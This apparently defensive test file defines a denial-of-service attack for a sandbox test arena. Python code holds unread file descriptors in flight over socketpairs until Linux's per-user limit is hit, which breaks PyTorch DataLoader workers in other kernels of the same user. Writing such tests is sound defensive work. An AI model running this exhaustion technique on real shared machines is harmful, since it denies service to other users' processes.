"""Descriptors in flight: sent to a socket that nobody reads.

Strategy: send descriptors until Linux refuses to a user what it allows one process, and stay.
Surface: other kernels, if they are the same user: whoever passes a descriptor, as workers of a
DataLoader do, is refused. `test_shared_users` has two kernels at once.
"""

from tests.attacks.arena import Attack

IN_FLIGHT = """
import socket, threading, time
kept, sent = [], 0
def take():
    global sent
    try:
        while True:
            kept.append(socket.socketpair())
            for _ in range(3):
                socket.send_fds(kept[-1][0], [b"-"], [0] * 250)
                sent += 250
    except OSError as error:
        print("took", sent, error.errno)
take()
"""
LOADER = """
import torch
data = torch.utils.data.TensorDataset(torch.zeros(8, 2))
try:
    list(torch.utils.data.DataLoader(data, num_workers=1))
except Exception as error:
    print("own workers fail", type(error).__name__)
kept.clear()
"""

ATTACK = Attack(cells=(IN_FLIGHT, LOADER), answer="right", share=1, says=r"took \d{3} 109")
